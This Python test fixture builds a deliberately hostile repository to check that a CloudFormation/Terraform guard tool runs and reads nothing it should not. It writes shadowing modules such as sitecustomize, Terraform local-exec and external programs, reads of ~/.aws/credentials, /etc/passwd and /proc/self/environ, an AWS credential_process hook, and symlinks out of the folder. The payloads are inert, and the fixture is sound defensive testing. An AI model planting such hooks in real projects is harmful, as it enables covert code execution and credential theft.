"""A repository as a stranger may have made it: everything in it that somebody might run, import or follow."""

from __future__ import annotations

import shutil
from pathlib import Path

CORRECTED = Path(__file__).parents[2] / "fixtures/systems/three-account-codepipeline/corrected"
SECRET = "never-to-be-read"

SHADOWED = (
    *("yaml", "json", "boto3", "botocore", "click", "cfnlint", "pydantic", "rich", "typing", "re"),
    *("xacct_guard", "xacct_guard_rules", "conftest", "sitecustomize", "usercustomize", "setup"),
    *("_yaml", "sqlite3", "runner", "policyuniverse", "pyarrow", "encodings", "multiprocessing"),
)
"""What Python would import from here, were this folder where it looks."""

TEMPLATE = """\
Transform: [AWS::Serverless-2016-10-31, {{Name: AWS::Include, Parameters: {{Location: '{secret}'}}}}]
Metadata:
  cfn-lint: {{config: {{append_rules: [{here}], override_spec: {secret}, merge_configs: true}}}}
Resources:
  Bucket: {{Type: AWS::S3::Bucket, Properties: {{BucketName: fine}}}}
  Nested: {{Type: AWS::CloudFormation::Stack, Properties: {{TemplateURL: '{secret}'}}}}
  Address: {{Type: AWS::CloudFormation::Stack, Properties: {{TemplateURL: 'https://example.com/x'}}}}
  File: {{Type: AWS::CloudFormation::Stack, Properties: {{TemplateURL: 'file://{secret}'}}}}
  Up: {{Type: AWS::CloudFormation::Stack, Properties: {{TemplateURL: '../outside/x.yaml'}}}}
  Machine:
    Type: AWS::StepFunctions::StateMachine
    Properties: {{DefinitionUri: '../outside/x.json', RoleArn: 'arn:aws:iam::111111111111:role/r'}}
  Included: {{'Fn::Transform': {{Name: AWS::Include, Parameters: {{Location: '{secret}'}}}}}}
"""
TERRAFORM = """\
terraform {{
  backend "http" {{
    address = "https://example.com/state"
  }}
}}
data "external" "x" {{
  program = ["touch", "{here}/ran"]
}}
data "http" "x" {{
  url = "https://example.com/x"
}}
data "local_file" "x" {{
  filename = "{secret}"
}}
resource "aws_iam_role" "r" {{
  name               = "r"
  assume_role_policy = file("{secret}")
  description        = templatefile("../outside/secret", {{}})
  provisioner "local-exec" {{
    command = "touch {here}/ran"
  }}
}}
resource "aws_s3_bucket" "b" {{
  bucket = filebase64("~/.aws/credentials")
  tags   = {{ a = fileexists("/etc/passwd") ? file("/proc/self/environ") : "" }}
}}
module "m" {{
  source = "git::https://example.com/x"
}}
module "n" {{
  source = "../outside"
}}
"""
SCRIPT = "#!/bin/sh\ntouch {here}/ran\n"


def hostile_repository(folder: Path, outside: Path) -> Path:
    """The corrected system with all of that beside it; `outside` has what nobody gave."""
    outside.mkdir()
    for name in ("secret", "x.yaml", "x.json", "x.tf"):
        (outside / name).write_text(f"Resources: {{{SECRET}: {{Type: AWS::S3::Bucket}}}}\n")
    shutil.copytree(CORRECTED, folder)
    words = {"here": folder, "secret": outside / "secret"}
    (folder / "hostile").mkdir()
    (folder / "hostile/t.yaml").write_text(TEMPLATE.format(**words))
    (folder / "hostile/x.tf").write_text(TERRAFORM.format(**words))
    leaves_a_trace = f"open({str(folder / 'ran')!r}, 'a').write(__name__)\n"
    for module in SHADOWED:
        (folder / f"{module}.py").write_text(leaves_a_trace)
    for place in ("rules", "xacct_guard_rules", "policies", ".xacct-guard/rules"):
        (folder / place).mkdir(parents=True)
        (folder / place / "evil.py").write_text(leaves_a_trace)
        (folder / place / "__init__.py").write_text(leaves_a_trace)
    for name in (".cfnlintrc", ".cfnlintrc.yaml", ".cfnlintrc.yml"):
        (folder / name).write_text(f"append_rules: [{folder / 'rules'}]\n")
    (folder / "pyproject.toml").write_text("[tool.xacct-guard]\nrules = 'rules'\n")
    (folder / ".env").write_text(f"PYTHONPATH={folder}\n")
    (folder / ".aws").mkdir()
    (folder / ".aws/config").write_text(f"[default]\ncredential_process = touch {folder}/ran\n")
    for name in ("link.yaml", "link.json", "link.tf", "buildspec.yml", "Jenkinsfile"):
        (folder / name).symlink_to(outside / "secret")
    (folder / "up").symlink_to("../outside")
    return folder
